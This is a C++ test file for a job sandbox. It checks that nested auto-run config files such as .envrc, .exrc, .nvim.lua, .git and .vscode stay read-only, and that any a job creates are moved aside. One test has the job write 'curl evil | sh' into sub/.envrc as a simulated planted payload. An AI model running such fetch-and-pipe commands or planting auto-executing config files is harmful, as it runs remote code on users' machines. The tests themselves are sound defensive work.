// The protected names below the root (issue #38): direnv and Neovim's 'exrc' read them in
// every directory, git in every nested repository, so `sub/.envrc`, `sub/.git`,
// `pkg/.vscode/` stay read-only like the root's own; one a job creates is moved aside when it
// ends, by its path.

#include <sys/stat.h>

#include <algorithm>
#include <memory>

#include "jobs/sandboxed_run.h"
#include "sandbox_test_util.h"

namespace toolhost::sandbox::testing {
namespace {

namespace fs = std::filesystem;

class SandboxNested : public SandboxFixture {
 protected:
  // `relative` under the root, its directories made first.
  void put(const std::string& relative, const std::string& text) {
    fs::create_directories(fs::path(root_ + "/" + relative).parent_path());
    write(root_ + "/" + relative, text);
  }
};

bool contains(const std::vector<std::string>& list, const std::string& item) {
  return std::find(list.begin(), list.end(), item) != list.end();
}

// Until the clock files are stamped from has passed `path`'s ctime (a tick: milliseconds), so
// that a later change gives it another ctime.
void wait_past_ctime(const std::string& path) {
  struct stat st {};
  ASSERT_EQ(::stat(path.c_str(), &st), 0);
  timespec now{};
  do {
    ::clock_gettime(CLOCK_REALTIME_COARSE, &now);
  } while (now.tv_sec < st.st_ctim.tv_sec ||
           (now.tv_sec == st.st_ctim.tv_sec && now.tv_nsec <= st.st_ctim.tv_nsec));
}

TEST_F(SandboxNested, ExistingNestedNamesAreReadOnly) {
  const std::vector<std::string> files = {"sub/.envrc", "sub/.nvim.lua", "sub/.git/config",
                                          "pkg/.vscode/tasks.json", "deep/a/b/c/.exrc"};
  for (const auto& file : files) put(file, "original\n");
  auto sandbox = make(settings());
  ASSERT_TRUE(sandbox);
  for (const auto& file : files) {
    Outcome denied = sh_in(*sandbox, "echo changed >> " + file);
    EXPECT_NE(denied.exit_code, 0) << file;
    EXPECT_NE(denied.output.find("Read-only file system"), std::string::npos)
        << file << ": " << denied.output;
    EXPECT_EQ(read(root_ + "/" + file), "original\n") << file;
  }
  // A new file inside a protected directory, and not from a cwd inside it either.
  EXPECT_NE(sh_in(*sandbox, "echo x > pkg/.vscode/launch.json").exit_code, 0);
  EXPECT_NE(sh_in(*sandbox, "cd sub/.git && echo x > hooks-post").exit_code, 0);
  EXPECT_FALSE(exists(root_ + "/pkg/.vscode/launch.json"));
  // The rest of those directories stays writable, and the control writes them all.
  EXPECT_TRUE(sh_in(*sandbox, "echo x > sub/main.c && echo x > deep/a/b/c/notes").ok());
  for (const auto& file : files) EXPECT_TRUE(sh_plain("echo changed >> " + file).ok()) << file;
}

TEST_F(SandboxNested, ANestedNameCreatedSinceTheSandboxWasBuiltIsBoundAfterTheNextWalk) {
  auto sandbox = make(settings());
  ASSERT_TRUE(sandbox);
  put("sub/.envrc", "original\n");  // by the user, outside any job
  sandbox->walk_protected();        // what a sandboxed job's end does
  Outcome denied = sh_in(*sandbox, "echo changed >> sub/.envrc");
  EXPECT_NE(denied.output.find("Read-only file system"), std::string::npos) << denied.output;
  EXPECT_EQ(read(root_ + "/sub/.envrc"), "original\n");
}

TEST_F(SandboxNested, TheWalkListsNestedNamesButNothingInsideAProtectedDirectory) {
  put(".git/modules/lib/.envrc", "x\n");  // inside .git: the bind covers it, not a name
  put("lib/.git", "gitdir: ../.git/modules/lib\n");
  put("pkg/.vscode/tasks.json", "{}\n");
  put("pkg/src/.nvim.lua", "x\n");
  put("pkg/src/envrc", "not protected\n");
  auto sandbox = make(settings());
  ASSERT_TRUE(sandbox);
  std::vector<std::string> found = sandbox->walk_protected();
  std::sort(found.begin(), found.end());
  EXPECT_EQ(found,
            (std::vector<std::string>{".git", "lib/.git", "pkg/.vscode", "pkg/src/.nvim.lua"}));
}

TEST_F(SandboxNested, TheWalkStopsAtItsLimitShallowestFirst) {
  put("a/.envrc", "x\n");
  put("a/b/c/d/.envrc", "x\n");
  for (int i = 0; i < 6; ++i) fs::create_directories(root_ + "/wide" + std::to_string(i));
  Settings limited = settings();
  limited.walk_limit = 8;  // the root and its seven directories, none of theirs
  auto sandbox = make(limited);
  ASSERT_TRUE(sandbox);
  std::vector<std::string> found = sandbox->walk_protected();
  EXPECT_TRUE(contains(found, "a/.envrc")) << found.size();
  EXPECT_FALSE(contains(found, "a/b/c/d/.envrc"));
}

// A walk reads again only the directories whose ctime moved: a name created in one it read
// before is found, even when the job sets the directory's times back, and one removed is gone.
TEST_F(SandboxNested, AWalkFindsWhatChangedInADirectoryItReadBefore) {
  fs::create_directories(root_ + "/sub/deep");
  wait_past_ctime(root_ + "/sub/deep");
  auto sandbox = make(settings());  // its first walk reads sub and sub/deep
  ASSERT_TRUE(sandbox);
  // Each directory's mtime set back to what it was, to the nanosecond.
  Outcome job = sh_in(*sandbox,
                      "a=$(stat -c %y sub) && b=$(stat -c %y sub/deep) && echo x > sub/.envrc && "
                      "echo x > sub/deep/.exrc && touch -d \"$a\" sub && touch -d \"$b\" sub/deep");
  ASSERT_TRUE(job.ok()) << job.output;
  std::vector<std::string> found = sandbox->walk_protected();
  EXPECT_TRUE(contains(found, "sub/.envrc")) << ::testing::PrintToString(found);
  EXPECT_TRUE(contains(found, "sub/deep/.exrc")) << ::testing::PrintToString(found);
  wait_past_ctime(root_ + "/sub/deep");
  EXPECT_EQ(sandbox->walk_protected().size(), 2u);  // read from what it kept
  fs::remove(root_ + "/sub/deep/.exrc");
  EXPECT_EQ(sandbox->walk_protected(), std::vector<std::string>{"sub/.envrc"});
}

// SandboxedRun around a real sandboxed child, as jobs::Process runs it.
class SandboxedRunNested : public SandboxNested {
 protected:
  // Runs `script` as job th-1 in `sandbox` between begin() and end(); returns its info.
  jobs::JobInfo run_job(const std::shared_ptr<const Sandbox>& sandbox, const std::string& script) {
    jobs::JobInfo info;
    info.id = "th-1";
    info.spec.sandbox = sandbox;
    jobs::SandboxedRun run;
    std::string error;
    EXPECT_NE(run.begin(info, environment(), error), nullptr) << error;
    Outcome outcome = sh_in(*sandbox, script);
    EXPECT_TRUE(outcome.ok()) << outcome.output;
    run.end(info);
    return info;
  }
  std::shared_ptr<const Sandbox> shared(const Settings& settings) {
    return std::shared_ptr<const Sandbox>(make(settings));
  }
};

TEST_F(SandboxedRunNested, NestedNamesTheJobCreatesAreMovedAsideAndNamed) {
  fs::create_directories(root_ + "/sub");
  auto sandbox = shared(settings());
  ASSERT_TRUE(sandbox);
  jobs::JobInfo info = run_job(sandbox,
                               "echo 'curl evil | sh' > sub/.envrc && mkdir -p pkg/.vscode && "
                               "echo '{}' > pkg/.vscode/tasks.json && git init -q repo 2>/dev/null "
                               "|| mkdir -p repo/.git");
  EXPECT_FALSE(exists(root_ + "/sub/.envrc"));
  EXPECT_EQ(read(root_ + "/sub/.envrc.toolhost-th-1"), "curl evil | sh\n");
  EXPECT_FALSE(exists(root_ + "/pkg/.vscode"));
  EXPECT_TRUE(exists(root_ + "/pkg/.vscode.toolhost-th-1/tasks.json"));
  EXPECT_FALSE(exists(root_ + "/repo/.git"));
  EXPECT_TRUE(contains(info.moved_aside, "`sub/.envrc` (now `sub/.envrc.toolhost-th-1`)"))
      << ::testing::PrintToString(info.moved_aside);
  EXPECT_TRUE(contains(info.moved_aside, "`pkg/.vscode` (now `pkg/.vscode.toolhost-th-1`)"));
  EXPECT_TRUE(contains(info.moved_aside, "`repo/.git` (now `repo/.git.toolhost-th-1`)"));
}

// One the user made while no job ran (the sandbox's walk has not seen it yet) is the user's:
// the job's end finds it and leaves it where it is, and the next job cannot write it.
TEST_F(SandboxedRunNested, ANestedNameMadeBeforeTheJobStaysAndIsBoundFromThenOn) {
  auto sandbox = shared(settings());
  ASSERT_TRUE(sandbox);
  put("sub/.envrc", "mine\n");
  // The job starts on a later tick of the clock the file's times come from (within ms).
  struct stat st {};
  ASSERT_EQ(::stat((root_ + "/sub/.envrc").c_str(), &st), 0);
  timespec now{};
  do {
    ::clock_gettime(CLOCK_REALTIME_COARSE, &now);
  } while (now.tv_sec < st.st_ctim.tv_sec ||
           (now.tv_sec == st.st_ctim.tv_sec && now.tv_nsec <= st.st_ctim.tv_nsec));
  jobs::JobInfo info = run_job(sandbox, "true");
  EXPECT_TRUE(info.moved_aside.empty()) << ::testing::PrintToString(info.moved_aside);
  EXPECT_EQ(read(root_ + "/sub/.envrc"), "mine\n");
  Outcome denied = sh_in(*sandbox, "echo changed >> sub/.envrc");
  EXPECT_NE(denied.output.find("Read-only file system"), std::string::npos) << denied.output;
}

}  // namespace
}  // namespace toolhost::sandbox::testing
